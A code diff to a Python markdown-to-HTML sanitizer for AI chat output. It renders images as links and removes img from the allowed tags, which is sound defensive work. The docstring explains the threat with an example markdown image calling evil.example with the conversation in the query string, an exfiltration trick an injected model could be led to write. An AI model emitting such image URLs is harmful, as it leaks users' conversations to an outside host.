@@ -3,9 +3,16 @@
 What survives: ordinary text formatting, tables, code blocks highlighted by Pygments (class
 names only), and links to http(s)/mailto that open safely. No script, no style, no event
 handlers, no hx-* attributes, no javascript: links. Panes also carry hx-disable.
+
+Images are shown as links, never loaded: a model talked into writing
+``![](https://evil.example/?q=<the conversation>)`` must not make the browser send that
+request on its own.
 """
 
 from __future__ import annotations
+
+from html import escape
+from typing import Any
 
 import nh3
 from markdown_it import MarkdownIt
@@ -27,8 +34,16 @@ def _highlight(code: str, lang: str, _attrs: str) -> str:
     return str(highlight(code, lexer, _FORMATTER))
 
 
+def _image_as_link(_renderer: Any, tokens: Any, idx: int, _options: Any, _env: Any) -> str:
+    token = tokens[idx]
+    src = escape(str(token.attrGet("src") or ""))
+    alt = escape("".join(child.content for child in token.children or []) or "image")
+    return f'<a href="{src}">[image: {alt}]</a>'
+
+
 _MD = MarkdownIt("commonmark", {"html": False, "linkify": False, "highlight": _highlight})
 _MD.enable(["table", "strikethrough"])
+_MD.add_render_rule("image", _image_as_link)
 
 _TAGS = {
     "p",
@@ -58,11 +73,9 @@ _TAGS = {
     "tr",
     "th",
     "td",
-    "img",
 }
 _ATTRIBUTES = {
     "a": {"href", "title"},
-    "img": {"src", "alt", "title"},
     "code": {"class"},
     "span": {"class"},
     "ol": {"start"},
